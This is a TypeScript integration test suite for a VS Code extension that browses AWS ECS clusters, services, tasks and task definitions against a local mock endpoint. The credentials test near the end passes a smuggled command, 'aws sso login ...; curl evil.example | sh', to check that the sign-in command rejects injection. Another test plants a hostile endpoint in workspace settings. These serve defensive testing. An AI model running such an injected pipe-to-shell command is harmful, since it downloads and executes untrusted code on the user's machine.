/**
 * The Clusters view through the real extension host, against the local ECS endpoint the runner starts
 * (scripts/integration.mjs: ECS_LENS_DEMO_ENDPOINT and dummy credentials in the editor's environment). The
 * tree is read with `getClustersTree(id)`, which calls the real TreeDataProvider's getChildren/getTreeItem
 * (loading what the view would load on expand), and driven with the view's own commands.
 *
 * Prints (never asserts) the activation time and the time to the first page of services.
 */
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { note } from '../events';
import { ACCOUNT, control, ecs, ENDPOINT, eventually, find, ofKind } from '../endpoint';
import { activate, closeAllEditors, codesOf, fixtureUri, positionOf, waitForDiagnostics, type EcsLensApi, type TreeItemSnapshot } from '../helpers';

function hoverText(hovers: vscode.Hover[]): string {
  return hovers
    .flatMap((h) => h.contents)
    .map((c) => (typeof c === 'string' ? c : 'value' in c ? c.value : ''))
    .join('\n');
}

suite('clusters view (local ECS endpoint)', () => {
  let api: EcsLensApi;
  let tree: (id?: string) => Promise<TreeItemSnapshot[]>;

  suiteSetup(async function () {
    if (!ENDPOINT) this.skip(); // the desktop runner starts no endpoint
    api = await activate();
    tree = (id) => api.getClustersTree(id);
    note(`Activation time: ${api.activationMs?.toFixed(1)} ms (exports.activationMs)`);
    // A fresh seeded account with the simulated clock stopped: the `api` rollout stays in progress until a test moves time.
    await control('reset', { seed: 'default' });
    await control('clock', { speed: 0 });
    await vscode.commands.executeCommand('ecsLens.clusters.refresh');
  });

  teardown(closeAllEditors);

  test('the session comes from the editor environment; the root is the header, Clusters and Task Definitions', async () => {
    const session = api.getAwsSession();
    assert.equal(session.endpoint, ENDPOINT);
    assert.equal(session.endpointSource, 'demo');
    assert.equal(session.profile, 'default chain');
    assert.deepEqual(session.notices, []);
    const root = await tree();
    assert.deepEqual(
      root.map((r) => [r.id, r.collapsible]),
      [
        ['header', 'none'],
        ['clusters', 'expanded'],
        ['task-definitions', 'collapsed'],
      ],
    );
    assert.equal(root[0]!.command?.command, 'ecsLens.aws.switch');
  });

  test('clusters of the region, sorted; the header names profile, region, account and endpoint', async () => {
    const clusters = await tree('clusters');
    assert.deepEqual(clusters.map((c) => c.label), ['batch', 'prod', 'restricted', 'sandbox', 'staging-ec2']);
    assert.ok(api.isAwsLoaded(), 'the AWS layer is loaded once the tree reads AWS');
    const prod = find(clusters, 'prod');
    assert.equal(prod.arn, `arn:aws:ecs:us-east-1:${ACCOUNT}:cluster/prod`);
    assert.equal(prod.id, prod.arn, 'ids are ARNs, so expansion survives a refresh');
    assert.match(prod.description ?? '', /4 services · \d+ running/);
    assert.match(prod.tooltip ?? '', /Capacity providers: FARGATE, FARGATE\\_SPOT/);
    assert.equal(prod.consoleUrl, 'https://us-east-1.console.aws.amazon.com/ecs/v2/clusters/prod/services?region=us-east-1');
    assert.match(find(clusters, 'staging-ec2').description ?? '', /4 instances/);
    const header = await eventually(async () => (await tree())[0]!, (h) => /account 123456789012/.test(h.description ?? ''), 'the account in the header');
    assert.equal(header.label, 'default chain · us-east-1');
    assert.match(header.description ?? '', /127\.0\.0\.1:\d+ \(demo\)/);
    assert.match(api.getAwsSession().statusText ?? '', /default chain · us-east-1/);
  });

  test('services: counts and pending in the label, status icons, deployments, tooltip with launch type and events', async () => {
    const prod = find(await tree('clusters'), 'prod');
    const children = await tree(prod.id);
    assert.deepEqual(
      children.map((c) => c.label.split(' ')[0]),
      ['api', 'payments', 'web', 'worker', 'Standalone'],
    );
    const web = find(children, /^web /);
    assert.equal(web.label, 'web 3/3');
    assert.equal(web.icon, 'pass-filled');
    assert.equal(web.description, 'web:12');
    for (const row of [/Launch type: FARGATE/, /Task definition: web:12/, /Created: /, /Circuit breaker: on, with rollback/, /\*\*Last events\*\*/, /has reached a steady state/]) assert.match(web.tooltip ?? '', row);
    assert.equal(web.consoleUrl, 'https://us-east-1.console.aws.amazon.com/ecs/v2/clusters/prod/services/web/health?region=us-east-1');

    const apiService = find(children, /^api /);
    assert.equal(apiService.icon, 'sync~spin', 'a deployment in progress');
    assert.match(apiService.description ?? '', /^deploying api:8 \(\d\/4\)$/);
    const apiChildren = await tree(apiService.id);
    assert.deepEqual(ofKind(apiChildren, 'deployment').map((d) => d.label), ['PRIMARY api:8', 'ACTIVE api:7']);
    assert.match(ofKind(apiChildren, 'deployment')[0]!.description ?? '', /in progress/);

    const payments = find(children, /^payments /);
    assert.equal(payments.icon, 'error');
    assert.match(payments.description ?? '', /payments:3 · rollout failed/);
  });

  test('tasks: the real tasks of a Fargate service, with status, health, launch type; containers with image', async () => {
    const prod = find(await tree('clusters'), 'prod');
    const web = find(await tree(prod.id), /^web /);
    const children = await tree(web.id);
    const tasks = ofKind(children, 'task');
    assert.equal(tasks.length, 3);
    for (const t of tasks) {
      assert.match(t.label, /^[0-9a-f]{8}$/);
      assert.match(t.description ?? '', /^RUNNING · HEALTHY · FARGATE · web:12 · started /);
      assert.match(t.arn ?? '', new RegExp(`^arn:aws:ecs:us-east-1:${ACCOUNT}:task/prod/${t.label}[0-9a-f]{24}$`), 'the label is the start of the task id');
      assert.equal(t.icon, 'pass-filled');
    }
    assert.equal(children.at(-1)!.label, 'Stopped in the last hour');
    const containers = await tree(tasks[0]!.id);
    assert.equal(containers.length, 1);
    assert.equal(containers[0]!.label, 'app');
    assert.match(containers[0]!.description ?? '', /^RUNNING · HEALTHY · web:1\.12\.0$/);
    assert.match(containers[0]!.tooltip ?? '', /Image: 123456789012\\\.dkr\\\.ecr/);
  });

  test('stopped tasks of the last hour with their reasons; standalone tasks; container instances', async () => {
    const clusters = await tree('clusters');
    const prod = find(clusters, 'prod');
    const worker = find(await tree(prod.id), /^worker /);
    const stopped = await tree(find(await tree(worker.id), 'Stopped in the last hour').id);
    assert.ok(stopped.length > 0, 'the failed rollout of worker:5 stopped tasks');
    const failed = stopped.find((t) => /worker:5/.test(t.description ?? ''));
    assert.ok(failed, stopped.map((t) => t.description).join('\n'));
    assert.match(failed.description ?? '', /^STOPPED · .*stopped \d+m ago: /);
    assert.equal(failed.icon, 'error');
    const containers = await tree(failed.id);
    assert.match(containers[0]!.description ?? '', /^STOPPED · UNHEALTHY · exit 137 · worker:1\.5\.0$/);

    const payments = find(await tree(prod.id), /^payments /);
    const paymentsStopped = await tree(find(await tree(payments.id), 'Stopped in the last hour').id);
    assert.ok(paymentsStopped.some((t) => /CannotPullContainerError/.test(t.description ?? '')), paymentsStopped.map((t) => t.description).join('\n'));

    const standalone = find(await tree(prod.id), 'Standalone tasks');
    const running = await tree(standalone.id);
    assert.ok(ofKind(running, 'task').some((t) => /nightly-report:1/.test(t.description ?? '')), running.map((t) => t.description).join('\n'));
    const stoppedStandalone = await tree(find(running, 'Stopped in the last hour').id);
    assert.ok(stoppedStandalone.some((t) => /migrate:2/.test(t.description ?? '') && t.icon === 'error'));
    assert.ok(stoppedStandalone.some((t) => /db-backup:1/.test(t.description ?? '')));

    const staging = find(clusters, 'staging-ec2');
    const instances = await tree(find(await tree(staging.id), 'Container instances').id);
    assert.equal(instances.length, 4);
    assert.equal(instances.filter((i) => /^DRAINING/.test(i.description ?? '')).length, 1);
    assert.ok(!(await tree(prod.id)).some((c) => c.label === 'Container instances'), 'Fargate-only clusters have no instances node');
  });

  test('paging: 100 services described, "Load more…" for the rest', async () => {
    const batch = find(await tree('clusters'), 'batch');
    const started = performance.now();
    const first = await tree(batch.id);
    note(`Time to the first page of services (batch: ListServices + 10 DescribeServices, 100 of 120): ${(performance.now() - started).toFixed(0)} ms`);
    assert.equal(ofKind(first, 'service').length, 100);
    const more = find(first, 'Load more…');
    assert.equal(more.description, '100 services shown');
    assert.equal(more.command?.command, 'ecsLens.clusters.loadMore');
    await vscode.commands.executeCommand('ecsLens.clusters.loadMore', more.id);
    const all = await tree(batch.id);
    const services = ofKind(all, 'service');
    assert.equal(services.length, 120);
    assert.equal(new Set(services.map((s) => s.label)).size, 120);
    assert.ok(!all.some((c) => c.label === 'Load more…'));
    assert.equal(find(all, /^job-120 /).label, 'job-120 1/1');
  });

  test('a denied cluster shows an error node with actions; the other clusters keep working', async () => {
    const restricted = find(await tree('clusters'), 'restricted');
    const children = await tree(restricted.id);
    assert.equal(children.length, 1);
    const error = children[0]!;
    assert.equal(error.label, 'Access denied');
    assert.equal(error.icon, 'error');
    assert.match(error.description ?? '', /ecs:ListServices/);
    assert.deepEqual((await tree(error.id)).map((a) => a.label), ['Retry', 'Choose credentials…', 'Show log']);
    await vscode.commands.executeCommand('ecsLens.clusters.retry', error.id);
    assert.equal((await tree(restricted.id))[0]!.label, 'Access denied');

    const clusters = await tree('clusters');
    assert.equal(find(clusters, 'restricted').icon, 'error');
    assert.equal(find(clusters, 'prod').icon, 'server-environment');
    assert.ok(ofKind(await tree(find(clusters, 'prod').id), 'service').length === 4);
  });

  test('expired credentials: an error node in place of the clusters; Retry recovers', async () => {
    await control('faults', { operations: ['ListClusters'], code: 'ExpiredTokenException', message: 'The security token included in the request is expired', times: 1 });
    await vscode.commands.executeCommand('ecsLens.clusters.refresh');
    const children = await tree('clusters');
    assert.equal(children.length, 1);
    assert.equal(children[0]!.label, 'Credentials expired');
    assert.deepEqual((await tree(children[0]!.id)).map((a) => a.label), ['Choose credentials…', 'Retry', 'Show log']);
    await vscode.commands.executeCommand('ecsLens.clusters.retry', children[0]!.id);
    assert.ok((await tree('clusters')).some((c) => c.label === 'prod'));
  });

  test('refreshing one node reads it again with the same ids (expansion survives), and nothing else', async () => {
    const prod = find(await tree('clusters'), 'prod');
    const before = (await tree(prod.id)).map((c) => c.id);
    await fetch(`${ENDPOINT}/_control/calls`, { method: 'DELETE' });
    await vscode.commands.executeCommand('ecsLens.clusters.refresh', prod.id);
    const after = (await tree(prod.id)).map((c) => c.id);
    assert.deepEqual(after, before);
    const calls = (await control('calls')) as { byOperation: Record<string, number> };
    assert.equal(calls.byOperation.ListServices, 1);
    assert.equal(calls.byOperation.DescribeClusters, 1, 'the cluster itself is described again (its counts)');
    assert.equal(calls.byOperation.ListClusters, undefined, 'the other clusters are not read again');
  });

  test('task definitions: families, revisions newest first with ACTIVE / INACTIVE', async () => {
    const families = await tree('task-definitions');
    for (const f of ['api', 'nightly-report', 'web', 'worker']) find(families, f);
    const web = await tree(find(families, 'web').id);
    assert.deepEqual(web.map((r) => r.label), Array.from({ length: 12 }, (_, i) => `web:${12 - i}`));
    assert.deepEqual(web.map((r) => r.description), [...Array(3).fill('ACTIVE'), ...Array(9).fill('INACTIVE')]);
    assert.equal(web[0]!.consoleUrl, 'https://us-east-1.console.aws.amazon.com/ecs/v2/task-definitions/web/12/containers?region=us-east-1');
    assert.deepEqual((await tree(find(families, 'nightly-report').id)).map((r) => [r.label, r.description]), [['nightly-report:1', 'INACTIVE']]);
  });

  test('opening a revision: read-only JSON as register input, with hovers and diagnostics', async () => {
    const web = await tree(find(await tree('task-definitions'), 'web').id);
    const uri = vscode.Uri.parse(String(await vscode.commands.executeCommand('ecsLens.clusters.openRevision', web[0]!.id)));
    assert.equal(uri.scheme, 'ecs-lens');
    assert.equal(uri.path, `/${ACCOUNT}/us-east-1/task-definitions/web:12.json`);
    const doc = vscode.window.activeTextEditor?.document;
    assert.equal(doc?.uri.toString(), uri.toString());
    assert.equal(doc.languageId, 'json');
    const json = JSON.parse(doc.getText()) as Record<string, unknown>;
    assert.equal(json.family, 'web');
    for (const readOnly of ['taskDefinitionArn', 'revision', 'status', 'registeredAt', 'requiresAttributes', 'compatibilities']) assert.ok(!(readOnly in json), `${readOnly} is not register input`);
    assert.deepEqual(json.tags, [{ key: 'team', value: 'storefront' }]);
    assert.equal(vscode.workspace.fs.isWritableFileSystem('ecs-lens'), false);
    await eventually(() => api.getDocumentKind?.(uri), (k) => k === 'task-definition', 'the revision classified as a task definition');
    const hover = hoverText((await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', uri, positionOf(doc, '"executionRoleArn"').translate(0, 2))) ?? []);
    assert.match(hover, /\*\*`executionRoleArn`\*\*/);

    // A revision with a problem gets its diagnostic like a file would.
    await ecs('RegisterTaskDefinition', { family: 'lens-it', containerDefinitions: [{ name: 'app', image: 'nginx:latest', memory: 256, essential: true }] });
    const latest = vscode.Uri.parse(String(await vscode.commands.executeCommand('ecsLens.clusters.openRevision', 'lens-it')));
    assert.match(latest.path, /\/lens-it:1\.json$/);
    await waitForDiagnostics(latest, (d) => d.length > 0, 'image-tag-latest on the revision');
    assert.ok(codesOf(latest).includes('image-tag-latest'), codesOf(latest).join(', '));
    assert.deepEqual(codesOf(uri), [], 'web:12 is clean');
  });

  test('auto-refresh: a deploying service is watched while the view is visible and updates when the rollout ends', async () => {
    await vscode.commands.executeCommand('ecsLens.clusters.focus');
    try {
      const prod = find(await tree('clusters'), 'prod');
      const apiService = find(await tree(prod.id), /^api /);
      assert.equal(apiService.icon, 'sync~spin');
      await eventually(() => api.getAwsSession().watchedServices, (w) => w.includes(apiService.id), 'api watched');
      await control('clock', { advanceMs: 300_000 });
      await eventually(() => api.getAwsSession().watchedServices, (w) => !w.includes(apiService.id), 'the rollout seen as finished', 20_000);
      const after = find(await tree(prod.id), /^api /);
      assert.equal(after.label, 'api 4/4');
      assert.equal(after.icon, 'pass-filled');
      assert.equal(after.description, 'api:8');
    } finally {
      await vscode.commands.executeCommand('workbench.view.explorer');
    }
  });

  test('switching region: eu-west-1 shows eu-prod; switching back restores us-east-1', async () => {
    try {
      await vscode.commands.executeCommand('ecsLens.aws.chooseRegion', 'eu-west-1');
      await eventually(() => api.getAwsSession().region, (r) => r === 'eu-west-1', 'the region setting applied');
      assert.deepEqual((await tree('clusters')).map((c) => c.label), ['eu-prod']);
      assert.equal((await tree())[0]!.label, 'default chain · eu-west-1');
      const web = find(await tree(find(await tree('clusters'), 'eu-prod').id), /^web /);
      assert.equal(web.label, 'web 2/2');
    } finally {
      await vscode.commands.executeCommand('ecsLens.aws.chooseRegion', '');
      await eventually(() => api.getAwsSession().region, (r) => r !== 'eu-west-1', 'the region setting cleared');
    }
    assert.ok((await tree('clusters')).some((c) => c.label === 'prod'));
  });

  test('ecsLens.aws.endpoint in the workspace settings is ignored (the region there applies)', async () => {
    const file = fixtureUri('.vscode/settings.json');
    let before: Uint8Array | undefined;
    try {
      before = await vscode.workspace.fs.readFile(file);
    } catch {
      before = undefined;
    }
    const existing = before ? (JSON.parse(new TextDecoder().decode(before)) as Record<string, unknown>) : {};
    try {
      // What a hostile repository would commit: its own endpoint (and, as a positive control, a region).
      const hostile = { ...existing, 'ecsLens.aws.endpoint': 'http://127.0.0.1:9/', 'ecsLens.aws.region': 'eu-west-1' };
      await vscode.workspace.fs.writeFile(file, new TextEncoder().encode(JSON.stringify(hostile, null, 2)));
      await eventually(() => api.getAwsSession().region, (r) => r === 'eu-west-1', 'the workspace settings read', 15_000);
      assert.equal(api.getAwsSession().endpoint, ENDPOINT, 'the endpoint still comes from the editor, not the workspace');
      assert.deepEqual((await tree('clusters')).map((c) => c.label), ['eu-prod'], 'the calls went to the real endpoint');
      const seen = vscode.workspace.getConfiguration('ecsLens.aws').inspect('endpoint');
      note(`VS Code's view of the workspace's endpoint value (machine scope): workspaceValue=${JSON.stringify(seen?.workspaceValue)}`);
    } finally {
      if (before) await vscode.workspace.fs.writeFile(file, before);
      else await vscode.workspace.fs.delete(file);
      await eventually(() => api.getAwsSession().region, (r) => r !== 'eu-west-1', 'the workspace settings restored', 15_000);
    }
  });

  test('ecsLens.aws.endpoint from the user settings: https or loopback http only', async () => {
    const config = () => vscode.workspace.getConfiguration('ecsLens.aws');
    try {
      // Plain http to another host would send the session token in the clear: nothing is read.
      await config().update('endpoint', 'http://ecs.example.com:4600', vscode.ConfigurationTarget.Global);
      await eventually(() => api.getAwsSession().blocked, (b) => b !== undefined, 'the unsafe endpoint refused');
      assert.match(api.getAwsSession().blocked ?? '', /must be an https URL/);
      const root = await tree();
      const error = find(root, 'AWS settings need a fix');
      assert.deepEqual((await tree(error.id)).map((a) => a.label), ['Open AWS settings']);
      assert.ok(!root.some((r) => r.id === 'clusters'), 'no AWS call with an unsafe endpoint');

      // The user's own loopback endpoint applies (and wins over the demo variable).
      const local = ENDPOINT.replace('127.0.0.1', 'localhost');
      await config().update('endpoint', local, vscode.ConfigurationTarget.Global);
      await eventually(() => api.getAwsSession(), (s) => s.endpoint === local && s.blocked === undefined, 'the user endpoint applied');
      assert.equal(api.getAwsSession().endpointSource, 'settings');
      assert.ok((await tree('clusters')).some((c) => c.label === 'prod'));
    } finally {
      await config().update('endpoint', undefined, vscode.ConfigurationTarget.Global);
      await eventually(() => api.getAwsSession(), (s) => s.endpointSource === 'demo' && s.blocked === undefined, 'the demo endpoint back');
    }
  });

  test('credentials: an SSO profile without a token asks to sign in (a command to run); a static-key profile works', async () => {
    try {
      await vscode.commands.executeCommand('ecsLens.aws.chooseProfile', 'sso-dev');
      await eventually(() => api.getAwsSession().profile, (p) => p === 'sso-dev', 'the SSO profile applied');
      const error = find(await tree('clusters'), 'Sign-in required');
      assert.match(error.description ?? '', /run `aws sso login --profile sso-dev`/);
      const actions = await tree(error.id);
      assert.deepEqual(actions.map((a) => a.label), ['Sign in: aws sso login --profile sso-dev', 'Copy sign-in command', 'Retry', 'Choose credentials…']);
      const signIn = actions[0]!.command!;
      assert.deepEqual(signIn, { command: 'ecsLens.aws.signIn', arguments: ['aws sso login --profile sso-dev'] });
      const opened = new Promise<vscode.Terminal>((resolve) => {
        const sub = vscode.window.onDidOpenTerminal((t) => {
          sub.dispose();
          resolve(t);
        });
      });
      await vscode.commands.executeCommand(signIn.command, ...signIn.arguments);
      const terminal = await opened;
      assert.equal(terminal.name, 'AWS sign-in');
      terminal.dispose();
      // Nothing but the sign-in command is ever typed into a terminal.
      const before = vscode.window.terminals.length;
      await vscode.commands.executeCommand('ecsLens.aws.signIn', 'aws sso login --profile x; curl evil.example | sh');
      assert.equal(vscode.window.terminals.length, before);

      await vscode.commands.executeCommand('ecsLens.aws.chooseProfile', 'static-dev');
      await eventually(() => api.getAwsSession().profile, (p) => p === 'static-dev', 'the static profile applied');
      assert.ok((await tree('clusters')).some((c) => c.label === 'prod'));
      assert.equal((await tree())[0]!.label, 'static-dev · us-east-1');
    } finally {
      await vscode.commands.executeCommand('ecsLens.aws.chooseProfile', '');
      await eventually(() => api.getAwsSession().profile, (p) => p === 'default chain', 'the default chain back');
    }
  });
});
